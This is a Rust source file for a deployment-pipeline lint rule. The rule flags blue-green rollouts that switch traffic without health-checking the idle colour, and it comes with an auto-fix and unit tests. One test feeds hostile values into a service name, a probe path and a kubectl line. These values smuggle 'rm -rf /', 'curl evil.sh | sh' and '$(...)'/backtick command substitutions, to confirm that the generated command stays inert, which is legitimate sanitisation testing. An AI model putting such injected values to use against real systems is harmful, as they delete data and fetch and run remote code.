use crate::facts::commands::swallows_failure;
use crate::facts::jobs::jobs_of;
use crate::facts::needs::ancestors;
use crate::facts::shell::{command_words, simple_commands, tool_and_args};
use crate::facts::workload::workload;
use crate::model::{Design, JobKind, RolloutStrategy, Service};
use crate::rules::{Area, Context, Fix, FixSafety, Rule, RuleDoc, Scope, Severity, Violation};

pub struct BlueGreenVerifyBeforeSwitch;

/// Whether a simple command moves traffic to the other colour.
fn switches(segment: &str) -> bool {
    let Some((tool, args)) = tool_and_args(segment) else {
        return false;
    };
    let first = args.first().copied().unwrap_or("");
    match tool {
        "kubectl" if first == "patch" => {
            let service = args.iter().any(|arg| {
                matches!(*arg, "service" | "svc")
                    || arg.starts_with("service/")
                    || arg.starts_with("svc/")
            });
            service && (segment.contains("selector") || segment.contains("version"))
        }
        "kubectl" if first == "argo" => args.get(2) == Some(&"promote"),
        "helm" if first == "upgrade" => segment.contains("blueGreen.activeColor"),
        _ => false,
    }
}

/// Whether a simple command puts a new version on the idle colour (without switching).
fn deploys(segment: &str) -> bool {
    if switches(segment) {
        return false;
    }
    let Some((tool, args)) = tool_and_args(segment) else {
        return false;
    };
    let first = args.first().copied().unwrap_or("");
    match tool {
        "helm" => matches!(first, "upgrade" | "install"),
        "kubectl" => {
            matches!(first, "apply" | "replace")
                || (first == "set" && args.get(1) == Some(&"image"))
        }
        _ => false,
    }
}

/// Whether a command line checks the idle colour over HTTP and fails when it is unhealthy.
fn checks_idle_colour(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    let names_idle = ["preview", "green", "blue", "idle", "inactive"]
        .iter()
        .any(|word| lower.contains(word));
    let failing_request = simple_commands(line).into_iter().any(|segment| {
        let words = command_words(segment);
        words.iter().enumerate().any(|(i, word)| {
            let tool = word.rsplit('/').next().unwrap_or(word);
            match tool {
                "wget" => true,
                "curl" => words[i + 1..].iter().any(|flag| {
                    *flag == "--fail"
                        || *flag == "--fail-with-body"
                        || (flag.starts_with('-') && !flag.starts_with("--") && flag.contains('f'))
                }),
                _ => false,
            }
        })
    });
    names_idle && failing_request && !swallows_failure(line)
}

/// Switching command lines with no check of the idle colour before them: (job, line).
/// Colour switches in the jobs that roll the service out that nothing checks first: (job
/// index, command position).
fn unchecked_switches(design: &Design, service: usize) -> Vec<(usize, usize)> {
    let blue_green = design
        .services
        .get(service)
        .and_then(workload)
        .is_some_and(|k8s| k8s.rollout.strategy == RolloutStrategy::BlueGreen);
    if !blue_green {
        return Vec::new();
    }
    let mut found = Vec::new();
    for index in jobs_of(design, JobKind::Deploy) {
        let job = &design.pipeline.jobs[index];
        if super::deploys::rolled_out_service(design, job) != Some(service) {
            continue;
        }
        let commands = &job.commands;
        for (position, line) in commands.iter().enumerate() {
            if !simple_commands(line).into_iter().any(switches) {
                continue;
            }
            let deployed_here = simple_commands(line).into_iter().any(deploys);
            let last_deploy = commands[..position]
                .iter()
                .rposition(|earlier| simple_commands(earlier).into_iter().any(deploys));
            let checked_in_job = match last_deploy {
                Some(start) => commands[start + 1..position]
                    .iter()
                    .any(|l| checks_idle_colour(l)),
                None => commands[..position].iter().any(|l| checks_idle_colour(l)),
            };
            // Without a deploy earlier in the job, the idle colour was deployed by a job this
            // one waits for, and a check there (or in between) counts.
            let checked_before_job = last_deploy.is_none()
                && ancestors(design, index).into_iter().any(|other| {
                    design.pipeline.jobs[other]
                        .commands
                        .iter()
                        .any(|l| checks_idle_colour(l))
                });
            if deployed_here || !(checked_in_job || checked_before_job) {
                found.push((index, position));
            }
        }
    }
    found
}

impl Rule for BlueGreenVerifyBeforeSwitch {
    const DOC: RuleDoc = RuleDoc {
        id: "ROLLOUT-005",
        name: "blue-green-verify-before-switch",
        severity: Severity::Medium,
        area: Area::Rollout,
        title: "Blue-green checks the idle colour before traffic moves to it",
        what: "With blue-green, a deploy command that switches traffic (`kubectl patch service` on \
               the selector, `--set blueGreen.activeColor=…`, `kubectl argo rollouts promote`) is \
               preceded, after the idle colour was deployed, by a health check of that colour \
               through its own Service or host (the chart's `<release>-preview` Service, a \
               `green.` host) that fails the job when the colour is unhealthy: `curl -f` or `wget`, \
               without `|| true`. The check may also run in a job the switching job waits for. \
               Slipway's generated deploy only updates the idle colour and leaves the switch to a \
               values change (README), so it never switches unchecked.",
        why: "The point of blue-green is that the new version is tested at full size before any \
              user reaches it. Switching without looking sends all traffic at once to a colour \
              that may not even start, which is a worse outage than a rolling update would cause.",
        incorrect: "- helm upgrade app charts/app --atomic --wait\n- helm upgrade app charts/app --reuse-values --set blueGreen.activeColor=green",
        correct: "- helm upgrade app charts/app --atomic --wait\n- kubectl port-forward service/app-preview 18080:80 & … curl -fsS http://127.0.0.1:18080/health/readiness …\n- helm upgrade app charts/app --reuse-values --set blueGreen.activeColor=green",
        fix: "Inserts, before the switching command, a check of the generated chart's preview \
              Service (Slipway's release and namespace names; port-forward and `curl -fsS` of the \
              readiness path) that fails the job on an error. A command that deploys and switches \
              at once has to be split by hand.",
        source: "000 · Deployment Strategies › Blue-Green Deployment (\"Test green\"); 004 · \
                 Deployment Strategies › Blue-Green (\"Full environment testing before switch\")",
        equivalents: &[],
    };
    const SCOPE: Scope = Scope::Service;

    fn check(&self, context: &Context) -> Vec<Violation> {
        let design = context.design;
        unchecked_switches(design, context.index)
            .into_iter()
            .map(|(index, position)| {
                let job = &design.pipeline.jobs[index];
                let combined = simple_commands(&job.commands[position]).into_iter().any(deploys);
                let message = if combined {
                    format!(
                        "Deploy job `{}` deploys and switches colours in one command: traffic moves before anything checks the new colour.",
                        job.id
                    )
                } else {
                    format!(
                        "Deploy job `{}` switches traffic without first checking the idle colour through its own Service.",
                        job.id
                    )
                };
                Violation::new(format!("pipeline.jobs[{index}].commands[{position}]"), message)
            })
            .collect()
    }

    fn fix(&self) -> Option<Fix> {
        Some(Fix {
            label: "Check the idle colour before the switch",
            safety: FixSafety::Safe,
            apply,
        })
    }

    #[cfg(test)]
    fn failing_examples() -> Vec<Design> {
        let mut design = super::with_strategy(RolloutStrategy::BlueGreen);
        design.pipeline.jobs[5].commands = vec![
            "helm upgrade --install app charts/app --namespace app --atomic --wait".into(),
            "kubectl patch service app --namespace app -p '{\"spec\":{\"selector\":{\"version\":\"green\"}}}'".into(),
        ];
        vec![design]
    }
}

/// Flags that take a value in the helm and kubectl commands read here.
const VALUE_FLAGS: &[&str] = &[
    "-n",
    "--namespace",
    "-f",
    "--values",
    "--set",
    "--set-string",
    "--timeout",
    "--version",
    "-p",
    "--patch",
    "--type",
    "--context",
    "--kubeconfig",
];

/// The positional arguments of a command (flags and their values removed).
fn positionals<'a>(args: &[&'a str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut skip = false;
    for arg in args {
        if skip {
            skip = false;
        } else if arg.starts_with('-') {
            skip = VALUE_FLAGS.contains(arg);
        } else {
            out.push(*arg);
        }
    }
    out
}

/// The release (Service name) and namespace the switching command names, if it does.
fn switch_target(line: &str) -> (Option<String>, Option<String>) {
    let Some(segment) = simple_commands(line)
        .into_iter()
        .find(|segment| switches(segment))
    else {
        return (None, None);
    };
    let Some((tool, args)) = tool_and_args(segment) else {
        return (None, None);
    };
    let namespace = args
        .windows(2)
        .find_map(|pair| matches!(pair[0], "-n" | "--namespace").then(|| pair[1].to_owned()));
    let namespace = namespace.or_else(|| {
        args.iter()
            .find_map(|arg| arg.strip_prefix("--namespace=").map(str::to_owned))
    });
    let positional = positionals(&args);
    let release = match (tool, positional.as_slice()) {
        ("helm", ["upgrade", release, ..]) => Some((*release).to_owned()),
        ("kubectl", ["patch", "service" | "svc", name, ..]) => Some((*name).to_owned()),
        ("kubectl", ["patch", resource, ..]) => resource
            .strip_prefix("service/")
            .or_else(|| resource.strip_prefix("svc/"))
            .map(str::to_owned),
        _ => None,
    };
    (release, namespace)
}

/// A port-forward to the chart's preview Service and a request to the readiness path that
/// fails on an error status; the forward is stopped either way. Release and namespace come
/// from the switching command when it names them, else from the design; every name passes
/// through `identifier`, the path through `url_path`.
fn preview_check(service: &Service, switch_line: &str) -> String {
    let (release, namespace) = switch_target(switch_line);
    let release = crate::text::identifier(release.as_deref().unwrap_or(&service.name), "app");
    let namespace = crate::text::identifier(
        namespace
            .as_deref()
            .unwrap_or(&service.kubernetes.namespace),
        "default",
    );
    let probes = &service.kubernetes.probes;
    let path = if probes.readiness.enabled {
        &probes.readiness.path
    } else {
        &service.container.healthcheck.path
    };
    let path = crate::text::url_path(path);
    format!(
        "kubectl port-forward --namespace {namespace} service/{release}-preview 18080:80 >/dev/null & forward=$!; sleep 5; curl -fsS --max-time 10 'http://127.0.0.1:18080{path}'; status=$?; kill \"$forward\"; exit \"$status\""
    )
}

fn apply(design: &mut Design, service: usize) {
    let mut found = unchecked_switches(design, service);
    // From the last insertion point backwards, so earlier positions stay valid.
    found.sort_by(|a, b| b.cmp(a));
    for (index, position) in found {
        let line = &design.pipeline.jobs[index].commands[position];
        if simple_commands(line).into_iter().any(deploys) {
            continue;
        }
        let check = preview_check(&design.services[service], line);
        design.pipeline.jobs[index].commands.insert(position, check);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::support::{fields, preset};

    #[test]
    fn passes_with_the_generated_deploy_and_other_strategies() {
        assert!(fields(
            &BlueGreenVerifyBeforeSwitch,
            &super::super::with_strategy(RolloutStrategy::BlueGreen)
        )
        .is_empty());
        assert!(fields(&BlueGreenVerifyBeforeSwitch, &preset("node-api")).is_empty());
        let mut rolling = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
        rolling.services[0].kubernetes.rollout.strategy = RolloutStrategy::Rolling;
        assert!(fields(&BlueGreenVerifyBeforeSwitch, &rolling).is_empty());
    }

    #[test]
    fn fails_when_the_switch_is_not_preceded_by_a_check() {
        assert_eq!(
            fields(
                &BlueGreenVerifyBeforeSwitch,
                &BlueGreenVerifyBeforeSwitch::failing_examples()[0]
            ),
            ["pipeline.jobs[5].commands[1]"]
        );
        let mut swallowed = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
        swallowed.pipeline.jobs[5].commands.insert(
            1,
            "curl -fsS https://green.example.com/health || true".into(),
        );
        assert_eq!(fields(&BlueGreenVerifyBeforeSwitch, &swallowed).len(), 1);
        let mut combined = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
        combined.pipeline.jobs[5].commands =
            vec!["helm upgrade app charts/app --atomic --set blueGreen.activeColor=green".into()];
        assert_eq!(fields(&BlueGreenVerifyBeforeSwitch, &combined).len(), 1);
    }

    #[test]
    fn a_check_before_the_deploy_does_not_count_but_one_after_it_does() {
        let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
        let check = "curl -fsS https://green.example.com/health".to_owned();
        design.pipeline.jobs[5].commands.insert(0, check.clone());
        assert_eq!(fields(&BlueGreenVerifyBeforeSwitch, &design).len(), 1);
        design.pipeline.jobs[5].commands.insert(2, check);
        assert!(fields(&BlueGreenVerifyBeforeSwitch, &design).is_empty());
    }

    #[test]
    fn the_fix_inserts_a_failing_preview_check() {
        let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
        apply(&mut design, 0);
        let commands = &design.pipeline.jobs[5].commands;
        assert_eq!(commands.len(), 3);
        assert!(
            commands[1].contains("--namespace app service/app-preview")
                && commands[1].contains("curl -fsS"),
            "{}",
            commands[1]
        );
        assert_eq!(
            switch_target("helm upgrade --namespace prod api charts/api --reuse-values --set blueGreen.activeColor=green"),
            (Some("api".to_owned()), Some("prod".to_owned()))
        );
        assert!(checks_idle_colour(&commands[1]));
        assert!(fields(&BlueGreenVerifyBeforeSwitch, &design).is_empty());
    }

    #[test]
    fn a_hostile_name_or_path_stays_one_inert_command() {
        let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
        design.services[0].name = "x\"; rm -rf / #".into();
        design.services[0].kubernetes.probes.readiness.path =
            "/health'; curl evil.sh | sh; '".into();
        let check = preview_check(
            &design.services[0],
            "kubectl patch svc x$(rm${IFS}-rf) -n y`id` -p '{\"spec\":{\"selector\":{}}}'",
        );
        assert!(
            !check.contains("rm -rf") && !check.contains("evil.sh |"),
            "{check}"
        );
        assert_eq!(check.matches('\'').count(), 2, "{check}");
        assert!(!check.contains("$(") && !check.contains('`'), "{check}");
        assert!(
            check.contains("--namespace y-id service/x-rm-ifs-rf-preview"),
            "{check}"
        );
    }
}
